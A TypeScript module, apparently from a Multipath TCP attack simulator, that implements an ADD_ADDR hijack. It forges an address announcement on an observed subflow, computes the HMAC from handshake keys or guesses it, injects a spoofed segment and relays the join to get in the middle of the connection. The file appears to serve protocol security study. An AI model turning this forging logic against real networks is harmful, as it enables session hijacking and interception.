/**
 * RFC 7430 §2: an ADD_ADDR announcing the attacker's own address, forged
 * on a subflow it has seen (as if the peer sent it). If the victim accepts
 * it, it joins the attacker's address; the attacker passes that join on to
 * the real peer (`SubflowRelay`), both HMACs verify because they do not
 * cover addresses, and the attacker sits in the middle of a subflow.
 *
 * v0's ADD_ADDR has no HMAC: sequence numbers are all it needs. v1's
 * carries HMAC(sender key, receiver key, ID, address, port): with both
 * keys (read in the handshake) it computes it; without, it can only guess
 * 64 bits, and the victim ignores the ADD_ADDR.
 */
import { hex64 } from '../../core/hex.ts';
import { addAddrHmac } from '../../crypto/mptcp-crypto.ts';
import type { Out } from '../../scenario/schema-dsl.ts';
import { formatEndpoint, formatIp, parseIp, type IpAddress } from '../../wire/ip-address.ts';
import type { AddAddr } from '../../wire/mptcp/types.ts';
import { TCP_FLAG } from '../../wire/tcp-header.ts';
import type { TcpOption } from '../../wire/tcp-options.ts';
import type { ADD_ADDR_HIJACK_PARAMS } from '../catalog.ts';
import { craftSegment } from '../craft.ts';
import type { KnownConnection } from '../knowledge.ts';
import { SubflowRelay, type Endpoint } from '../relay.ts';
import type { AttackContext, AttackStrategy, ObservedPacket, StrategyDefinition } from '../strategy.ts';

type Params = Out<typeof ADD_ADDR_HIJACK_PARAMS>;

const PORTS = 60999 - 32768 + 1;
const WINDOW = 6 * 1024 * 1024;

class AddAddrHijack implements AttackStrategy {
  private relay: SubflowRelay | null = null;
  /** The real end a join to the attacker is passed on to. */
  private target: Endpoint | null = null;

  constructor(private readonly p: Params) {}

  start(ctx: AttackContext): void {
    const own = ctx.spec.address === undefined ? null : parseIp(ctx.spec.address);
    if (!own) {
      ctx.act('attacker-gives-up', 'has no address of its own to announce (set "address" on the attacker)');
      return;
    }
    this.relay = new SubflowRelay(own, () => this.target);
    ctx.later(this.p.atUs, () => this.forge(ctx, own));
  }

  receive(ctx: AttackContext, p: ObservedPacket): void {
    this.relay?.handle(ctx, p);
  }

  private forge(ctx: AttackContext, own: IpAddress): void {
    const kb = ctx.knowledge;
    const c = this.pick(ctx);
    if (!c) {
      ctx.act('attacker-gives-up', 'has seen no subflow to forge an ADD_ADDR on: it would have to guess the port and sequence numbers (see expected guesses)');
      return;
    }
    const { toServer, toClient } = kb.flowsOf(c);
    const victimIsClient = this.p.victim === 'client';
    const toVictim = victimIsClient ? toClient! : toServer!;
    const fromVictim = victimIsClient ? toServer : toClient;
    const peer = victimIsClient ? c.server : c.client;
    this.target = peer;
    const version = kb.versions.get(c.key) ?? (ctx.protocol === 'mptcp-v0' ? 0 : 1);
    // v1 always; v0 too if it saw the hosts use RFC 8684's ADD_ADDR (the add-addr-hmac what-if).
    const withHmac = version === 1 || kb.addAddrHmacSeen.has(c.key);
    const pair = kb.keyPairs.get(c.key);
    const senderKey = victimIsClient ? pair?.server : pair?.client;
    const receiverKey = victimIsClient ? pair?.client : pair?.server;
    let option: AddAddr;
    let guess = false;
    let how: string;
    if (!withHmac) {
      option = { kind: 'add-addr', version: 0, echo: false, addressId: this.p.addressId, address: own, reserved: 0 };
      how = 'v0: no HMAC to forge';
    } else if (senderKey !== undefined && receiverKey !== undefined) {
      const hmac = addAddrHmac(senderKey, receiverKey, this.p.addressId, own);
      option = { kind: 'add-addr', version: 1, echo: false, addressId: this.p.addressId, address: own, reserved: 0, hmac };
      how = `with the HMAC ${hex64(hmac)} it computed from both keys read in the handshake`;
    } else {
      const hmac = ctx.rng.u64();
      option = { kind: 'add-addr', version: 1, echo: false, addressId: this.p.addressId, address: own, reserved: 0, hmac };
      guess = true;
      how = `with a guessed HMAC ${hex64(hmac)} (it does not know the keys)`;
    }
    const options: TcpOption[] = [];
    if (toVictim.tsVal !== null) options.push({ kind: 'timestamps', tsval: (toVictim.tsVal + 1) >>> 0, tsecr: fromVictim?.tsVal ?? 0 });
    options.push(option);
    const bytes = craftSegment({ src: toVictim.src, dst: toVictim.dst, srcPort: toVictim.srcPort, dstPort: toVictim.dstPort, seq: toVictim.nextSeq, ack: fromVictim?.nextSeq ?? toVictim.ack, flags: TCP_FLAG.ACK, window: toVictim.window, options });
    ctx.inject(bytes, `ADD_ADDR ${formatIp(own)} (ID ${this.p.addressId}) to ${formatEndpoint(toVictim.dst, toVictim.dstPort)} as ${formatEndpoint(toVictim.src, toVictim.srcPort)}, ${how}`, { guess });
  }

  /** A subflow it saw both ways, the most recently active first. */
  private pick(ctx: AttackContext): KnownConnection | null {
    let best: KnownConnection | null = null;
    let when = -1;
    for (const c of ctx.knowledge.connections.values()) {
      const { toServer, toClient } = ctx.knowledge.flowsOf(c);
      if (!toServer || !toClient) continue;
      const t = Math.max(toServer.lastSeenUs, toClient.lastSeenUs);
      if (t > when) {
        best = c;
        when = t;
      }
    }
    return best;
  }

  expectedGuesses(ctx: AttackContext): { guesses: number; why: string } {
    const inWindow = Math.ceil(2 ** 32 / WINDOW);
    const v0 = [...ctx.knowledge.versions.values()].includes(0);
    return v0
      ? { guesses: PORTS * inWindow, why: `${PORTS} client ports × ${inWindow} in-window sequence numbers: a v0 ADD_ADDR carries no HMAC` }
      : { guesses: PORTS * inWindow * 2 ** 64, why: `${PORTS} client ports × ${inWindow} in-window sequence numbers × 2^64 truncated HMACs (RFC 8684's ADD_ADDR HMAC)` };
  }
}

export const addAddrHijack: StrategyDefinition = {
  create: (params) => new AddAddrHijack(params as Params),
};
